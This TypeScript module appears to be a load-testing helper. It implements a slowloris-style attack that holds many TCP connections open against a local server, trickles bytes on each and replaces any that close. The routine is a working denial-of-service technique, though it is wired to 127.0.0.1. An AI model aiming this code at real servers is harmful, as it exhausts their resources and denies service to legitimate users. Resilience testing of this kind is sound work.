import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackTarget } from './attackTarget.ts';

type Held = {
  count: number;
  /** What the attacker sends when a connection opens. */
  begin: string;
  /** How many bytes a second it then sends on each connection. It never reads. */
  bytesPerSecond: number;
};

/** The most connections that the attacker opens per second, even if the server refuses some. */
const OPENED_PER_SECOND = 500;

/** Holds this many connections open; opens another for each that the server closes. */
export async function holdSockets({ port, address }: AttackTarget, held: Held): Promise<never> {
  let open = 0;
  const openOne = () => {
    open += 1;
    const socket = connect({ port, host: '127.0.0.1', localAddress: address });
    socket.pause();
    const bytes = Buffer.alloc(held.bytesPerSecond, 7);
    const timer = bytes.length > 0 && setInterval(() => socket.writable && socket.write(bytes), 1_000);
    socket.once('connect', () => socket.write(held.begin));
    socket.on('error', () => {});
    socket.once('close', () => {
      open -= 1;
      if (timer) clearInterval(timer);
    });
  };
  for (;;) {
    const missing = Math.min(held.count - open, OPENED_PER_SECOND / 10);
    for (let number = 0; number < missing; number += 1) openOne();
    await sleep(100);
  }
}
